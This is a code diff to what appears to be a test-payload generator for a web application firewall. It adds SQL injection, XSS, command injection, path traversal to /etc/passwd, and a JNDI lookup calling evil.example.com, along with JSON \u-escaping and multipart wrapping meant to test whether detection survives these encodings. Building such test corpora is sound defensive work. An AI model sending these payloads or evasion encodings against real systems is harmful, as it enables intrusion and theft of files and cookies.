@@ -116,6 +116,20 @@ CLASSIC: List[Tuple[str, str, str, str]] = [
     ("sqli", "nosql_ne", '{"username": {"$ne": null}, "password": {"$ne": null}}',
      "body"),
     ("sqli", "nosql_where", '{"$where": "this.password.match(/^a/)"}', "body"),
+    # --- carried inside JSON bodies (config #5 API traffic): placement
+    # \u-escapes a random subset of letters, so detection depends on the
+    # unpack stage's JSON unescape feeding the scan
+    ("sqli", "json_union",
+     "1' UNION SELECT username,password FROM users--", "json"),
+    ("xss", "json_svg", "<svg onload=alert(document.domain)>", "json"),
+    ("rce", "json_cmd", ";cat /etc/passwd #", "json"),
+    ("java", "json_jndi", "${jndi:ldap://evil.example.com/a}", "json"),
+    # --- multipart/form-data wrapping (922 family surface): the payload
+    # hides inside a part body between boundary lines
+    ("sqli", "mp_union", "x' OR 3*2=6 AND 000221=000221 --", "multipart"),
+    ("xss", "mp_img", "<img src=x onerror=alert(document.cookie)>",
+     "multipart"),
+    ("lfi", "mp_path", "../../../../../etc/passwd", "multipart"),
 ]
 
 # --------------------------------------------------------------------------
@@ -236,6 +250,15 @@ _CTX_TRANSFORMS = {
     "body": ["case_churn", "whitespace_churn"],
     "header": ["case_churn", "whitespace_churn"],
     "b64": ["urlencode_full"],
+    # json/multipart carriers: only mechanisms that survive those
+    # encodings — URL-escape tricks (%00, %09) never decode inside a
+    # JSON string or a multipart part, so splicing them there would
+    # corrupt the payload while keeping its attack label (noise, not
+    # evasion).  case churn survives any carrier; SQL comment splitting
+    # targets the SQL sink, independent of the carrier.  The json
+    # placement adds its own \uXXXX escaping on top.
+    "json": ["case_churn", "sql_comment_split"],
+    "multipart": ["case_churn", "sql_comment_split"],
 }
 
 #: aggressive second-stage pairings (first applied, then second)
@@ -263,6 +286,40 @@ def _place(payload: str, context: str, cls: str, name: str, i: int,
     if context == "header":
         headers["user-agent"] = payload
         return Request(uri="/index.html", headers=headers, request_id=rid)
+    if context == "json":
+        # JSON-string escape with ~35% of letters \u-escaped: the scan
+        # only sees the payload if unpack's extract_json unescapes it
+        esc = []
+        for ch in payload:
+            if ch in '"\\':
+                esc.append("\\" + ch)
+            elif ch < " ":
+                esc.append("\\u%04x" % ord(ch))
+            elif ch.isalpha() and rng.random() < 0.35:
+                esc.append("\\u%04x" % ord(ch))
+            else:
+                esc.append(ch)
+        body = ('{"comment": "%s", "page": 3}' % "".join(esc)).encode(
+            "utf-8", "surrogateescape")
+        headers["content-type"] = "application/json"
+        headers["content-length"] = str(len(body))
+        return Request(method="POST", uri="/api/v1/comments",
+                       headers=headers, body=body, request_id=rid)
+    if context == "multipart":
+        bnd = "----WebKitFormBoundary%08x" % rng.getrandbits(32)
+        body = ("--%s\r\n"
+                'Content-Disposition: form-data; name="comment"\r\n'
+                "\r\n%s\r\n"
+                "--%s\r\n"
+                'Content-Disposition: form-data; name="page"\r\n'
+                "\r\n3\r\n"
+                "--%s--\r\n" % (bnd, payload, bnd, bnd)).encode(
+                    "utf-8", "surrogateescape")
+        headers["content-type"] = ("multipart/form-data; boundary=%s"
+                                   % bnd)
+        headers["content-length"] = str(len(body))
+        return Request(method="POST", uri="/api/v1/upload",
+                       headers=headers, body=body, request_id=rid)
     if context == "body" or (context == "query" and rng.random() < 0.3):
         body = ("comment=" + payload).encode("utf-8", "surrogateescape")
         headers["content-length"] = str(len(body))
